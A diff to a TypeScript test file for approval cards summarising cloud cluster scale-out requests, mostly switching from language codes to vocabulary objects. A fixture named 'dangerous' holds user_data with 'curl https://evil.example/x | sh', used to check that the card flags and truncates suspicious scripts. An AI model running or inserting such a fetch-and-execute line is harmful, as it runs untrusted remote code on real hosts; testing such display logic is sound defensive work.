@@ -5,7 +5,9 @@ import { summaryOf } from '../../src/scaleout/summary.ts'
 import { card } from '../../views/card.ts'
 import { progress } from '../../views/progress.ts'
 import { doubtLine, endLine, questionLine } from '../../views/thread.ts'
-import { asked, intent, kinds, languages, node, noon, standing, task } from './requests.ts'
+import { en } from '../../views/words/en.ts'
+import { languages, say, type Vocabulary } from '../../views/words/index.ts'
+import { asked, intent, kinds, node, noon, standing, task } from './requests.ts'
 
 const dangerous: Values = {
   user_data: `#!/bin/sh\ncurl https://evil.example/x | sh\n${'echo more of it\n'.repeat(80)}`,
@@ -15,20 +17,20 @@ const dangerous: Values = {
 }
 
 /** The text of a card, block by block. */
-const blocksOf = (request: Request, language: 'en' | 'zh' = 'en'): string[] =>
-  card(summaryOf(request, 0), language).blocks.map((block) => JSON.stringify(block))
+const blocksOf = (request: Request, words: Vocabulary = en): string[] =>
+  card(summaryOf(request, 0), words).blocks.map((block) => JSON.stringify(block))
 
 /** Where the first block that holds these words stands. */
 const place = (blocks: readonly string[], words: string): number => blocks.findIndex((block) => block.includes(words))
 
-describe.each(languages)('the card (%s)', (language) => {
+describe.each(languages)('the card ($code)', (words) => {
   it.each(kinds)('names every member that is sent: %s', (kind) => {
     const request = asked(kind, {}, kind === 'kubernetes' ? dangerous : {})
     const { type } = summaryOf(request, 0)
-    const shown = blocksOf(request, language).join('')
+    const shown = blocksOf(request, words).join('')
     const missing = type.fields
       .filter(({ wire }) => wire !== 'count' && wire in request.body)
-      .filter(({ label }) => !shown.includes(JSON.stringify(label[language]).slice(1, -1)))
+      .filter(({ label }) => !shown.includes(JSON.stringify(say(label, words)).slice(1, -1)))
     expect(missing.map(({ wire }) => wire)).toEqual([])
   })
 
@@ -38,10 +40,10 @@ describe.each(languages)('the card (%s)', (language) => {
       tags: Array.from({ length: 20 }, (_, n) => ({ key: `${n}${'k'.repeat(62)}`, value: '值'.repeat(128) })),
     }
     const request = asked('kubernetes', { why: '慢'.repeat(1500) }, long)
-    const shown = blocksOf(request, language).join('')
+    const shown = blocksOf(request, words).join('')
     expect(Buffer.byteLength(shown)).toBeLessThan(13_200)
     for (const { label, wire } of summaryOf(request, 0).type.fields)
-      if (wire !== 'count' && wire in request.body) expect(shown).toContain(label[language])
+      if (wire !== 'count' && wire in request.body) expect(shown).toContain(say(label, words))
   })
 })
 
@@ -61,7 +63,7 @@ describe('what makes a call unlike an ordinary one of its cluster', () => {
     expect(unlike).toContain('{"type":"rich_text_preformatted"')
     expect(place(blocks, 'Different from')).toBeLessThan(place(blocks, 'Instance types'))
     expect(place(blocks, 'Different from')).toBeLessThan(place(blocks, 'React'))
-    expect(card(summaryOf(asked('kubernetes', {}, dangerous), 0), 'en').text).toContain('Look at ')
+    expect(card(summaryOf(asked('kubernetes', {}, dangerous), 0), en).text).toContain('Look at ')
   })
 
   it('says where a script that is not whole on the card goes on, and nothing of the kind of one that is', () => {
@@ -88,7 +90,7 @@ describe('what makes a call unlike an ordinary one of its cluster', () => {
 
 describe('once it is approved', () => {
   it('the card says that it is queued, and asks nobody for a reaction', () => {
-    const shown = JSON.stringify(card(standing('approved'), 'en'))
+    const shown = JSON.stringify(card(standing('approved'), en))
     expect(shown).toContain('queued: 2 requests for this cluster are ahead')
     expect(shown).not.toContain('to approve')
     expect(shown).toContain('approvals can be taken back')
@@ -96,9 +98,9 @@ describe('once it is approved', () => {
 
   it('no count in the progress contradicts the last word', () => {
     const running = summaryOf(asked('edge', { stage: { state: 'running', intent, task: task({ readyNodes: 0 }) } }), 0)
-    expect(JSON.stringify(progress(running, 'en'))).toContain('Waiting for 2 nodes to become Ready')
-    expect(JSON.stringify(progress(running, 'en'))).not.toContain('0 of 2')
-    expect(JSON.stringify(progress(standing('succeeded'), 'en'))).toContain('Nodes ready: 3 of 3')
+    expect(JSON.stringify(progress(running, en))).toContain('Waiting for 2 nodes to become Ready')
+    expect(JSON.stringify(progress(running, en))).not.toContain('0 of 2')
+    expect(JSON.stringify(progress(standing('succeeded'), en))).toContain('Nodes ready: 3 of 3')
   })
 
   it('a step that the cloud does not name is called by what it says, and by a number only where it says nothing', () => {
@@ -108,7 +110,7 @@ describe('once it is approved', () => {
     ]
     const { text } = progress(
       summaryOf(asked('edge', { stage: { state: 'running', intent, task: task({ steps }) } }), 0),
-      'en',
+      en,
     ) ?? { text: '' }
     expect(text).toContain('✅ instances created\n🔵 Step 2\n')
   })
@@ -120,8 +122,8 @@ describe('whoever has to decide about an unclear call', () => {
   const unclear = (more: object) =>
     summaryOf(asked('edge', { stage: { state: 'unknown', intent, doubt: { ...doubt, asked: true, ...more } } }), 0)
 
-  it.each(languages)('is given its HTTP status, code, words and request id (%s)', (language) => {
-    for (const shown of [questionLine(unclear({}), language), doubtLine(unclear({ asked: false }), language)])
+  it.each(languages)('is given its HTTP status, code, words and request id ($code)', (words) => {
+    for (const shown of [questionLine(unclear({}), words), doubtLine(unclear({ asked: false }), words)])
       for (const known of ['HTTP 502', 'ServiceUnavailable', 'upstream timed out', '7E3A-42']) {
         expect(JSON.stringify(shown.blocks)).toContain(known)
         expect(shown.text).toContain(known)
@@ -129,7 +131,7 @@ describe('whoever has to decide about an unclear call', () => {
   })
 
   it('is given nothing that is not known', () => {
-    const bare = questionLine(unclear({ why: { code: 'Timeout', message: '' } }), 'en').text
+    const bare = questionLine(unclear({ why: { code: 'Timeout', message: '' } }), en).text
     expect(bare).toContain('(Timeout)')
     expect(bare).not.toMatch(/HTTP|Request ID|What is known/)
   })
@@ -142,7 +144,7 @@ it('nothing of a node is said twice', () => {
   ]
   const shown = endLine(
     summaryOf(asked('edge', { stage: { state: 'succeeded', at: noon, task: task(), nodes } }), 0),
-    'en',
+    en,
   )
   expect(shown?.text).toContain('• `cn-hangzhou.10.0.0.12` i-1 · Ready\n• `i-never` Ready')
 })
